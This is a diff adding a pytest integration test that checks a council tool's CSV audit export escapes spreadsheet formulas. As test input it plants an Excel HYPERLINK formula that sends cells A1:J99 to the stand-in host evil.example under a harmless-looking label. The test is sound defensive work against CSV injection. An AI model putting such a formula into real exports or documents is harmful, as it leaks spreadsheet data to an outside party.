@@ -237,3 +237,32 @@ def test_the_team_database_set_by_policy_cant_be_swapped_by_hostaddr() -> None:
         with pytest.raises(TeamError, match="policy"):
             team_url(typed, policy, locked=True)
     assert team_url("postgresql://asmith@db.council.local/crier", policy, locked=True).user == "asmith"
+
+
+@pytest.mark.integration
+def test_the_audit_export_for_it_never_holds_a_spreadsheet_formula(
+    tmp_path: Path, team_db: TeamDatabase
+) -> None:
+    """`crier audit export --format csv` is for FOI requests, opened in Excel: an officer's post or comment
+    starting with "=" became a live formula (a link that sends the sheet's cells away) on IT's PC."""
+    import csv
+    import io
+
+    from tests.postgres import OWNER_PASSWORD
+    from tests.team_pcs import PC
+
+    it = PC(tmp_path / "it")
+    it.ok("team", "init", team_db.owner_url(with_password=False), stdin=OWNER_PASSWORD + "\n")
+    author = unique_name("alice")
+    it.ok("team", "add-user", author, "--role", "author", stdin="alice-pw\n")
+    owner = connect(TeamUrl.parse(team_db.owner_url()), None)
+    account = owner.execute("SELECT crier.register_account('x', '@council')").fetchone()[0]
+    formula = '=HYPERLINK("https://evil.example/?"&A1:J99,"Open the draft")'
+    officer = connect(TeamUrl.parse(team_db.url_for(author)), "alice-pw")
+    sid = officer.execute("SELECT crier.submit(%s, %s, %s)", (uuid.uuid4(), account, formula)).fetchone()[0]
+    officer.execute("SELECT crier.add_comment(%s, %s, %s)", (uuid.uuid4(), sid, "+1 from me"))
+    rows = list(csv.DictReader(io.StringIO(it.ok("audit", "export", "--format", "csv"))))
+    cells = [cell for row in rows for cell in row.values() if cell]
+    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells)
+    assert any(formula in cell for cell in cells)  # the words are all there, as text
+    assert formula in [e["text"] for e in __import__("json").loads(it.ok("audit", "export"))]  # JSON as is
